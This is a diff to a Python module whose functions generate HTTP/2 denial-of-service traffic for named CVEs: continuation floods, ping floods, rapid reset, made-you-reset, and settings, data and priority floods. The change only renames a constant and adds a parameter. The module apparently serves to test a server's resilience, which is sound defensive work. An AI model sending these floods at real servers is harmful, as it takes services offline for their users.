@@ -35,7 +35,7 @@ HEADERS = [
 Abuse: TypeAlias = Callable[[random.Random], Iterator[bytes]]
 """Bytes that are sent over one connection, piece by piece."""
 
-_FLOOD = 10_000
+FLOOD = 10_000
 
 
 def message(content: bytes, *, flag: int = 0, length: int | None = None) -> bytes:
@@ -43,9 +43,9 @@ def message(content: bytes, *, flag: int = 0, length: int | None = None) -> byte
     return struct.pack(">BI", flag, len(content) if length is None else length) + content
 
 
-def block() -> bytes:
+def block(named: list[tuple[str, str]] = HEADERS) -> bytes:
     """A call's headers, with no help from earlier ones."""
-    return bytes(Encoder().encode(HEADERS))
+    return bytes(Encoder().encode(named))
 
 
 def headers(stream: int, content: bytes | None = None, *flags: str) -> bytes:
@@ -134,31 +134,31 @@ def continuation_flood(_: random.Random) -> Iterator[bytes]:
     """A header block that never ends (CVE-2024-27316 and its like)."""
     yield begun(headers(1, block(), "END_STREAM"))
     filler = Encoder().encode([("x", "y" * 4000)])
-    for _ in range(_FLOOD // 2):
+    for _ in range(FLOOD // 2):
         yield ContinuationFrame(1, filler).serialize()
 
 
 def empty_continuation_flood(_: random.Random) -> Iterator[bytes]:
     yield begun(headers(1, block(), "END_STREAM"))
-    yield ContinuationFrame(1, b"").serialize() * _FLOOD
+    yield ContinuationFrame(1, b"").serialize() * FLOOD
 
 
 def settings_flood(_: random.Random) -> Iterator[bytes]:
     yield begun()
-    yield SettingsFrame(0, {4: 1}).serialize() * _FLOOD
+    yield SettingsFrame(0, {4: 1}).serialize() * FLOOD
 
 
 def ping_flood(_: random.Random) -> Iterator[bytes]:
     """Pings whose answers are never read (CVE-2019-9512)."""
     yield begun()
-    yield PingFrame(0, b"12345678").serialize() * _FLOOD
+    yield PingFrame(0, b"12345678").serialize() * FLOOD
 
 
 def rapid_reset(_: random.Random) -> Iterator[bytes]:
     """Calls opened and reset at once (CVE-2023-44487)."""
     yield begun()
     body = DataFrame(1, message(b"\x0a\x05hello"), flags=["END_STREAM"])
-    for stream in range(1, 2 * _FLOOD, 2):
+    for stream in range(1, 2 * FLOOD, 2):
         body.stream_id = stream
         yield headers(stream) + body.serialize() + RstStreamFrame(stream, error_code=8).serialize()
 
@@ -166,18 +166,18 @@ def rapid_reset(_: random.Random) -> Iterator[bytes]:
 def made_you_reset(_: random.Random) -> Iterator[bytes]:
     """Calls that have the server reset them, by a window of nothing (CVE-2025-8671)."""
     yield begun()
-    for stream in range(1, _FLOOD, 2):
+    for stream in range(1, FLOOD, 2):
         yield headers(stream) + raw(8, 0, stream, bytes(4))
 
 
 def empty_data_flood(_: random.Random) -> Iterator[bytes]:
     yield begun(headers(1))
-    yield DataFrame(1, b"").serialize() * _FLOOD
+    yield DataFrame(1, b"").serialize() * FLOOD
 
 
 def priority_flood(_: random.Random) -> Iterator[bytes]:
     yield begun()
-    for stream in range(1, 2 * _FLOOD, 2):
+    for stream in range(1, 2 * FLOOD, 2):
         yield PriorityFrame(stream, depends_on=stream + 2).serialize()
 
 
